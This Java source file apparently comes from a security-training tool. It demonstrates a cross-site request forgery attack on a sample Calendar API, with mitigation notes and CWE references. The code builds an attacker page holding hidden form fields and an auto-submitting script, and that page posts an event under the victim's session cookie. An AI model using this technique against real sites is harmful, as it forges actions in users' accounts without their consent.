package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Draft;
import dev.gatehouse.desktop.exchange.Hop;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.FormElement;

/** Makes the victim's browser post an event with the victim's own session. */
@AutoService(Attack.class)
public final class Csrf implements Attack {
  private static final String PAGE = "/";
  private static final String TITLE = "Written by a page that Alice only looked at";

  @Override
  public AttackCard card() {
    return new AttackCard(
        "csrf",
        "Cross-site request forgery",
        AttackGroup.KEYS_AND_SESSIONS,
        "A page of the attacker holds a form that posts an event to the Calendar API, and a script that sends it.",
        "A page that Alice opens while she is signed in.",
        "The browser adds Alice's cookie to every request to the API, whichever page makes it, and the server asks no more.",
        "no-csrf-check",
        List.of("RFC 6265 §8.2", "CWE-352", "W3C Fetch Metadata"),
        "Ask for a second secret that only the own pages know, and refuse requests whose Origin is another. SameSite=Lax"
            + " does not help against pages on another port of the same host.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    String cookie = BrowserSession.cookieOfVictim(target);
    try (AttackerSite site = new AttackerSite()) {
      site.serve(PAGE, "text/html;charset=utf-8", page(target));
      FormElement form = form(BrowserSession.open(target, site, PAGE));
      target.send(
          BrowserSession.BROWSER,
          "The page's script sends its form, and the browser adds her cookie.",
          BrowserSession.with(cookie, sent(form).withHeader("Origin", site.origin())));
    }
    Hop events =
        target.send(
            BrowserSession.BROWSER,
            "Later, Alice looks at her calendar.",
            target.get(Events.VICTIMS).withHeader("Cookie", cookie));
    return target.end(
        Events.areIn(events, TITLE), "The attacker wrote an event into Alice's calendar.");
  }

  private static String page(Target target) {
    Document page = Document.createShell(target.base().toString());
    Element form =
        page.body()
            .appendElement("form")
            .attr("method", "post")
            .attr("action", target.base().resolve(Events.VICTIMS).toString());
    Events.asForm(TITLE)
        .forEach(
            (name, value) ->
                form.appendElement("input")
                    .attr("type", "hidden")
                    .attr("name", name)
                    .attr("value", value));
    page.body().appendElement("script").appendText("document.forms[0].submit()");
    return page.outerHtml();
  }

  private static FormElement form(String page) {
    return Jsoup.parse(page).forms().get(0);
  }

  /** As a browser sends a form (WHATWG HTML, form submission), from a page of the same site. */
  private static Draft sent(FormElement form) {
    String body =
        form.formData().stream()
            .map(field -> encoded(field.key()) + "=" + encoded(field.value()))
            .collect(Collectors.joining("&"));
    return new Draft("POST", form.attr("action"), List.of(), body.getBytes(StandardCharsets.UTF_8))
        .withHeader("Content-Type", "application/x-www-form-urlencoded")
        .withHeader("Sec-Fetch-Site", "same-site")
        .withHeader("Sec-Fetch-Mode", "navigate");
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }
}
